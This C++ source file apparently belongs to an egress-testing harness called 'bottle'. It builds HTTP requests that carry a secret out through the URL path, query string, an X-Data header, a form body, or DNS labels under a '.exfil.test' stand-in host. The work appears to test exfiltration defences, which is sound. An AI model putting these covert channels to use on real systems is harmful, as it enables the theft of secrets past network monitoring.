#include "attacks/http_message.h"

#include "attacks/carrier.h"
#include "harness/digest.h"

namespace bottle {

std::string url_of(const Exchange& exchange) {
  const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
  return (exchange.tls ? "https://" : "http://") + exchange.uri_host +
         (usual ? "" : ":" + std::to_string(exchange.uri_port)) + exchange.target;
}

void set_message(const Choice& choice, const Brief& brief, Exchange& exchange) {
  const std::string secret = carried_secret(choice, brief);
  const std::string position = chosen(choice, "position", "none");
  exchange.agent = "bottle-verify/" + brief.nonce;
  exchange.target = "/bottle/" + brief.nonce;
  if (secret.empty()) return;
  if (position == "path") exchange.target += "/" + secret;
  if (position == "query") exchange.target += "?data=" + to_percent_reserved(secret);
  if (position == "header") exchange.headers.emplace_back("X-Data", secret);
  if (position == "body") exchange.body = "data=" + secret;
  if (position == "host") exchange.uri_host = as_labels(secret) + "." + brief.nonce + ".exfil.test";
}

void try_with_prober(const Exchange& exchange, Attempt& attempt) {
  const std::string authority = exchange.uri_host + ":" + std::to_string(exchange.uri_port);
  const std::string uri = exchange.through_proxy && !exchange.tls ? url_of(exchange) : exchange.target;
  std::string request = (exchange.body.empty() ? "GET " : "POST ") + uri + " HTTP/1.1\r\nHost: " + exchange.host +
                        "\r\nUser-Agent: " + exchange.agent + "\r\nAccept: */*\r\n";
  for (const auto& [name, value] : exchange.headers) request += name + ": " + value + "\r\n";
  if (!exchange.body.empty()) {
    request +=
        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + std::to_string(exchange.body.size()) +
        "\r\n";
  }
  request += "Connection: close\r\n\r\n" + exchange.body;
  attempt.action = {
      {"action", "http"}, {"address", exchange.dial.address}, {"port", exchange.dial.port}, {"timeout_ms", 4000},
      {"read_ms", 3000},  {"request", to_base64(request)}};
  if (exchange.through_proxy && exchange.tls) {
    const std::string& host = exchange.connect_host.empty() ? authority : exchange.connect_host;
    const std::string connect =
        "CONNECT " + authority + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + exchange.agent + "\r\n\r\n";
    attempt.action["connect"] = to_base64(connect);
    attempt.sent.push_back(segment("connect", connect));
  } else if (!exchange.before.empty()) {  // for the prober all the same: it goes on when the answer is 2xx
    attempt.action["connect"] = to_base64(exchange.before);
    attempt.sent.push_back(segment("connect", exchange.before));
  }
  if (exchange.tls) {
    attempt.action["tls"] = {{"sni", exchange.sni}, {"verify", exchange.verify}, {"ca", exchange.ca_file}};
  }
  attempt.sent.push_back(segment("request", request));
}

}  // namespace bottle
